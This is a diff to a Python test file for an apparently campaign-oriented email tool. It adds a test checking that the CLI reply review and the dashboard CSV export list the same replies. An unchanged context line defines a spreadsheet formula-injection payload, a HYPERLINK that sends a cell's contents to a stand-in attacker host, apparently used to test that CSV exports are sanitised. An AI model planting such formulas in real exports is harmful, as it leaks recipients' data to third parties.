@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from pathlib import Path
 from typing import Any
 
@@ -11,6 +12,7 @@ import pytest
 from replies_fixtures import NOW, Seeded, parse_fields, reply_address, seed, settings_for
 from sqlalchemy import Engine, select
 from typer.testing import CliRunner
+from web_fixtures import log_in, make_app
 
 from sender.cli import app
 from sender.cli.common import console
@@ -20,6 +22,7 @@ from sender.core.models import Reply
 from sender.core.vocabulary import ReplyStatus
 from sender.track.inbound import parse_stored_reply
 
+ADDRESS = re.compile(r"[\w.+-]+@[\w-]+(?:\.[\w-]+)+")
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Free Jani")'
 
 
@@ -103,8 +106,22 @@ def test_review_lists_what_needs_a_person(
     assert result.exit_code == 0, result.output
     assert "who@elsewhere.example" in result.output
     assert "no supporter with the sender's address" in result.output
-    assert "ana@example.com" not in result.output
-    assert "marie@example.fr" not in result.output
+    assert "ana@example.com" in result.output  # matched: a message for staff to read
+    assert "marie@example.fr" not in result.output  # an auto-reply needs nobody
+
+
+def test_review_and_the_dashboard_list_the_same_replies(
+    world: tuple[Engine, Settings, Seeded], runner: CliRunner, env: pytest.MonkeyPatch
+) -> None:
+    engine, settings, seeded = world
+    fill(engine, settings, seeded)
+    env.setattr(console, "width", 250)
+    cli = runner.invoke(app, ["replies", "review"]).output
+    staff = make_app(engine).test_client()
+    assert log_in(staff) == 302
+    rows = list(csv.DictReader(io.StringIO(staff.get("/dashboard/replies.csv").get_data(True))))
+    assert {row["from_email"] for row in rows} == set(ADDRESS.findall(cli))
+    assert len(rows) == 3  # all but the auto-reply
 
 
 def test_parse_finishes_replies_a_dead_worker_left(
